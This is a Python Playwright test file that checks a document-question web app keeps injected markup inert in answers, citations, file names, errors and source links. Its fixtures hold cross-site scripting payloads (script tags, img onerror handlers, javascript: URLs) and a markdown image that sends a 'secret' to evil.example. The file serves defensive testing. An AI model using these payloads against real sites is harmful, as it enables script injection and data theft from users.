"""What comes from documents, models and file names stays text."""

from collections.abc import Callable
from contextlib import AbstractContextManager

import pytest
from page_backend import Backend, Script, document
from playwright.sync_api import Page, expect

Open = Callable[..., AbstractContextManager[Page]]
ATTACK = "<img src=x onerror=\"document.title='pwned'\"><script>document.title='pwned'</script>"
LINK = "![leak](https://evil.example/?q=secret) [click](javascript:alert(1))"
QUESTION = "Is it safe?"


def test_markup_in_answers_passages_titles_and_headings_stays_inert(page: Page, backend: Backend) -> None:
    backend.documents["git/git-log"]["title"] = ATTACK
    for chunk in backend.documents["git/git-log"]["chunks"]:
        chunk["heading"], chunk["text"] = [ATTACK], f"{ATTACK} {LINK}"
    script = Script([f"{ATTACK} {LINK} `{ATTACK}` [1]\n```\n{ATTACK}\n```"], [("[1]", 1, ATTACK)], note=ATTACK)
    backend.scripts[QUESTION] = script
    page.get_by_label("Your question").fill(QUESTION)
    page.keyboard.press("Enter")
    expect(page.locator(".verdict")).to_be_visible()
    expect(page.locator(".prose p").first).to_contain_text(f"{ATTACK} {LINK}")
    page.locator("button.cite").first.hover()
    expect(page.get_by_role("tooltip").locator("mark")).to_have_text(ATTACK)
    page.get_by_text("How this was found").click()
    page.locator("button.cite").first.click()
    expect(page.get_by_role("complementary")).to_contain_text(LINK)
    assert page.locator("main img, main script, aside img, aside a, .answer a").count() == 0
    expect(page).to_have_title("Capstan")


def test_markup_in_file_names_and_errors_stays_inert(page: Page, backend: Backend) -> None:
    page.get_by_role("link", name="Documents").first.click()
    names = ["<img src=x onerror=alert(1)>.md", "<img src=x onerror=alert(1)>.exe"]
    page.get_by_label("Choose files").set_input_files(
        [{"name": name, "mimeType": "text/plain", "buffer": b"text"} for name in names]
    )
    expect(page.locator(".uploads .ready")).to_contain_text(names[0])
    expect(page.locator(".uploads .failed")).to_contain_text(f"{names[1]} cannot be read")
    assert page.locator("main img").count() == 0


def test_only_web_addresses_of_sources_become_links(page: Page, backend: Backend) -> None:
    page.get_by_role("link", name="Search").click()
    backend.documents["git/git-log"]["url"] = "javascript:document.title='pwned'"
    backend.documents["git/git-stash"]["url"] = "https://docs.example/stash"
    page.get_by_label("Search for").fill("stash")
    page.keyboard.press("Enter")
    page.locator(".result").first.click()
    expect(page.get_by_role("complementary").locator(".chunk").first).to_be_visible()
    assert page.get_by_role("complementary").get_by_role("link").count() == 0
    page.locator(".result").nth(1).click()
    link = page.get_by_role("complementary").get_by_role("link")
    expect(link).to_have_attribute("href", "https://docs.example/stash")
    expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_ids_with_any_character_reach_their_document(page: Page, backend: Backend) -> None:
    odd = "files/a b?c#d%2F&e.md"
    backend.documents[odd] = document(odd, "Odd", [([], "An odd name.")], tenant="demo")
    page.get_by_role("link", name="Documents").first.click()
    page.get_by_role("button", name="Odd").first.click()
    expect(page.get_by_role("complementary")).to_contain_text("An odd name.")
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Delete Odd").click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(page.get_by_text("“Odd” is deleted.")).to_be_visible()
    assert odd not in backend.documents


def test_the_browser_itself_refuses_markup_from_strings(open_page: Open) -> None:
    assign = "() => { try { document.body.innerHTML = '<b>x</b>'; return 'done' } catch { return 'refused' } }"
    outcomes = []
    with pytest.raises(AssertionError, match="TrustedHTML"), open_page() as page:
        outcomes.append(page.evaluate(assign))
    assert outcomes == ["refused"]
